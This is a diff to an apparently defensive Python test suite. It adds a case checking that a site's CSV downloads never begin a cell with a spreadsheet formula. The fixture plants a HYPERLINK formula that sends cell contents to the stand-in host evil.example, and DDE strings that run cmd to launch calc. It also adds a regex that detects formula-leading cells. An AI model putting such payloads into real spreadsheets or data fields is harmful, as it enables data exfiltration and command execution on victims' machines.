@@ -3,7 +3,15 @@ collects every ``round*.py`` module's ``CASES``)."""
 
 from __future__ import annotations
 
-from tests.hostile.corpus import BASE, BENCH, GOOD_ARTIFACT, SITE, VALIDATE, Case
+from tests.hostile.corpus import (
+    BASE,
+    BENCH,
+    GOOD_ARTIFACT,
+    SITE,
+    VALIDATE,
+    Case,
+    _mutated,
+)
 
 M = {"matrices/m.yaml": (BASE + "tests: [pp8]\n").encode()}
 RUN = "runs/golden-host-55ecea05/gemma3-270m-q4-k-m/"
@@ -98,9 +106,38 @@ def _special_file_cases() -> list[Case]:
     ]
 
 
+FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+# a cell that a spreadsheet runs: =, +, @, or - followed by something other than a number
+FORMULA_CELL = (r'(?m)(^|,)"?[=+@]', r'(?m)(^|,)"?-[^\d.,"\n]')
+
+
+def _csv_cases() -> list[Case]:
+    """Item 12: names that are spreadsheet formulas never start a cell of the site's CSV downloads."""
+    names = {
+        GOOD_ARTIFACT: _mutated(
+            lambda d: (
+                d["model"].update(name=FORMULA),
+                d["build"].update(backend_version="@SUM(1+1)*cmd|' /C calc'!A0"),
+                d["host"].update(name="-2+3+cmd|' /C calc'!A0"),
+            )
+        )
+    }
+    return [
+        Case(
+            "site-formula-in-names",
+            names,
+            SITE,
+            "",
+            rc=0,
+            lines=0,
+            with_runs=True,
+            absent_csv=FORMULA_CELL,
+        )
+    ]
+
+
 def _cases() -> list[Case]:
-    return _special_file_cases()
+    return _special_file_cases() + _csv_cases()
 
 
 CASES = _cases()
-_ = GOOD_ARTIFACT
